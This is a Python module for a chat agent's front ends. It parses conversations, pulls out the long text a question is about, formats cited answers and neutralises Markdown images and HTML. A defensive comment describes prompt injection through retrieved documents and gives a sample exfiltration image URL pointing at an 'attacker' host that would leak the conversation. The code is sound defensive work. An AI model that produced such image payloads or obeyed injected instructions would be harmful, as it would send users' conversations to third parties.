"""What every chat front end needs from a conversation and an agent's answer, in one place: the
conversation as LangChain messages, the long text a ``rlm`` question is about, the answer with
numbered references, Markdown made safe to render (step events as one-line statuses are
:func:`agents.events.describe`).

The HTTP server (:mod:`agents.serve.app`), the LangGraph server graphs
(:mod:`agents.serve.langgraph_app`) and the terminal chat share these, so a conversation is read,
and an answer reads, the same everywhere. (:mod:`agents.chat` re-exports them.)
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from typing import Any

from langchain_core.messages import AIMessage, BaseMessage, HumanMessage, SystemMessage

from agents.events import Citation

__all__ = [
    "NO_LONG_TEXT",
    "background_task_reply",
    "citation_payload",
    "long_text",
    "message_text",
    "neutralise_markdown",
    "plain_opening",
    "split_conversation",
    "with_references",
]


def message_text(content: Any) -> str:
    """The text of an OpenAI-style message ``content``: a string, or a list of parts whose
    ``text`` parts are joined (images and other parts carry no text for the agent)."""
    if content is None:
        return ""
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        texts = [str(p.get("text", "")) for p in content if isinstance(p, Mapping) and p.get("type") == "text"]
        return "\n".join(t for t in texts if t)
    msg = f"message content must be a string or a list of parts, got {type(content).__name__}"
    raise ValueError(msg)


def split_conversation(messages: Sequence[Mapping[str, Any]]) -> tuple[str, list[BaseMessage]]:
    """Split an OpenAI-style message list into the question (the last user message) and the
    conversation before it, as LangChain messages.

    Raises:
        ValueError: No messages, a message without a known role, or no user message last.
    """
    if not messages:
        msg = "messages is empty; send at least one message with role 'user'"
        raise ValueError(msg)
    history: list[BaseMessage] = []
    for i, message in enumerate(messages):
        if not isinstance(message, Mapping):
            msg = f"messages[{i}] must be an object with 'role' and 'content'"
            raise ValueError(msg)
        role = message.get("role")
        text = message_text(message.get("content"))
        if role == "user":
            history.append(HumanMessage(text))
        elif role == "assistant":
            history.append(AIMessage(text))
        elif role in ("system", "developer"):
            history.append(SystemMessage(text))
        elif role == "tool":
            continue  # tool results of a client-side agent carry nothing the agent can use
        else:
            msg = f"messages[{i}].role is {role!r}; use 'system', 'user' or 'assistant'"
            raise ValueError(msg)
    if not history or not isinstance(history[-1], HumanMessage):
        msg = "the last message must have role 'user' (the question to answer)"
        raise ValueError(msg)
    question = str(history[-1].content).strip()
    if not question:
        msg = "the last user message is empty; put the question in its content"
        raise ValueError(msg)
    return question, history[:-1]


NO_LONG_TEXT = (
    "model 'rlm' answers over a long text, and there is nothing to read: send the text in an earlier message "
    "(or before the question, separated by a blank line), then the question last"
)


def long_text(question: str, history: Sequence[BaseMessage]) -> tuple[str, str]:
    """The long text a ``rlm`` question is about, and the question: one rule for every front end.

    The text is the earlier user messages, oldest first, joined by blank lines (a system prompt is
    an instruction and an assistant turn an answer: neither is the text; blank messages are left
    out). With no earlier user message, the question's own message is split at its last blank
    line: the text is everything before it, the question the last paragraph. Files a message names
    are not read: any client could then read any file of the server.

    Args:
        question: The last user message (as :func:`split_conversation` returns it).
        history: The conversation before it.

    Returns:
        ``(text, question)``.

    Raises:
        ValueError: Nothing to read (:data:`NO_LONG_TEXT` says how to send the text).
    """
    texts = [text for m in history if isinstance(m, HumanMessage) if (text := message_text(m.content)).strip()]
    if texts:
        return "\n\n".join(texts), question
    head, _, last = question.strip().rpartition("\n\n")
    if head.strip() and last.strip():
        return head, last.strip()
    raise ValueError(NO_LONG_TEXT)


def with_references(answer: str, citations: Sequence[Citation]) -> str:
    """The answer followed by its numbered references, as Markdown:
    ``[1] Title (source/doc_id)``, one per line, matching the ``[n]`` marks in the text."""
    if not citations:
        return answer
    lines = [f"[{c.number}] {c.title or _short(c.doc_id)} ({c.source}/{_short(c.doc_id)})" for c in citations]
    return f"{answer}\n\n**Sources**\n" + "\n".join(f"- {line}" for line in lines)


# -- answers shown by Markdown front ends ---------------------------------------------------------
# An answer quotes retrieved text, and a document may carry an injected instruction. A Markdown
# front end (Open WebUI, a chat page rendering Markdown) fetches the URL of every image it draws,
# so `![](https://attacker/?q=<the conversation>)` or `<img src=...>` in an answer would be an
# exfiltration and tracking channel that needs no click. Links stay: following one takes a click.

_FENCE_OPEN = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")
_IMAGE = re.compile(r"(?<!\\)((?:\\\\)*)!\[")  # "![" whose "!" is not backslash-escaped
_TAG = re.compile(r"<(?=[A-Za-z/!?])")  # the start of an HTML tag, comment, declaration or instruction
_SAFE_AUTOLINK = re.compile(r"<(?:https?://|mailto:)[^\s<>]*>", re.I)


def neutralise_markdown(text: str) -> str:
    """``text`` with its Markdown images and raw HTML made inert, everything else kept.

    An image, ``![alt](url)`` (inline or by reference), has its bracket escaped
    (``!\\[alt](url)``): it shows as the characters it was, and nothing is fetched. Every ``<``
    that would open an HTML tag, comment or declaration becomes ``&lt;``, so ``<img src=...>``,
    ``<script>`` or ``<iframe>`` shows as text. Kept as they are: citations ``[n]``, links,
    ``<https://...>`` and ``<mailto:...>`` autolinks, emphasis, lists, tables, and the inside of
    fenced code blocks (which a front end never renders as Markdown or HTML). Where a front
    end's reading of the text may differ from this one (an unclosed fence, inline code), the
    text is neutralised: showing a stray ``\\`` beats fetching a URL.
    """
    lines = text.split("\n")
    out: list[str] = []
    i = 0
    while i < len(lines):
        end = _fence_end(lines, i)
        if end is not None:  # a closed fenced code block: kept verbatim, fences included
            out.extend(lines[i : end + 1])
            i = end + 1
            continue
        out.append(_neutralise_line(lines[i]))
        i += 1
    return "\n".join(out)


def _fence_end(lines: list[str], start: int) -> int | None:
    """The index of the line that closes the fenced code block opened at ``start``, if it is one."""
    opened = _FENCE_OPEN.match(lines[start])
    if opened is None:
        return None
    fence, info = opened.group(2), opened.group(3)
    if fence[0] == "`" and "`" in info:  # not a fence (CommonMark): inline code
        return None
    closing = re.compile(rf"^ {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}[ \t\r]*$")
    for j in range(start + 1, len(lines)):
        if closing.match(lines[j]):
            return j
    return None  # unclosed: front ends disagree on what follows, so it is not kept verbatim


def _neutralise_line(line: str) -> str:
    line = _IMAGE.sub(lambda m: m.group(1) + "!\\[", line)
    kept: list[str] = []
    last = 0
    for link in _SAFE_AUTOLINK.finditer(line):
        kept.append(_TAG.sub("&lt;", line[last : link.start()]))
        kept.append(link.group(0))
        last = link.end()
    kept.append(_TAG.sub("&lt;", line[last:]))
    return "".join(kept)


def _short(doc_id: str) -> str:
    """A file's name for a document id that is its path (files ingested from folders)."""
    return doc_id.rsplit("/", 1)[-1] if "/" in doc_id else doc_id


def citation_payload(citation: Citation) -> dict[str, Any]:
    """A citation as sent to clients: number, ids, title, snippet and the whole passage."""
    return {**citation.as_dict(), "text": citation.text}


def background_task_reply(question: str) -> str | None:
    """The reply to a front end's background request sent as the single user message
    ``question`` (title, tags, follow-ups, queries, autocomplete, emoji, merge: see
    :mod:`agents.serve.open_webui`), or ``None`` when it is a real question."""
    from agents.serve.open_webui import background_request  # that module builds on this one

    request = background_request([{"role": "user", "content": question}])
    return request.reply() if request is not None else None


# An answer quoted from a document can open with the document's own markup: a heading
# ("# The Kettle Lighthouse [1] ..."), a quote or list mark, a table row, a rule, the tail of a
# tag. A Markdown front end renders that as a huge title or a broken block; the answer's first
# line is plain prose instead.
_OPENING_MARKUP = re.compile(
    r"\A(?:\s+|#{1,6}(?=\s|$)|>+|[-*+](?=\s)|\|"
    r"|(?:[-*_=]\s*){3,}(?=\n|$)|</?[A-Za-z][^>\n]*>|[\])}>,;:.!?]+(?=\s))"
)


def plain_opening(answer: str) -> str:
    """``answer`` without the heading marks or markup fragments it opens with (the rest kept)."""
    text = answer
    while True:
        stripped = _OPENING_MARKUP.sub("", text, count=1)
        if stripped == text:
            return text
        text = stripped
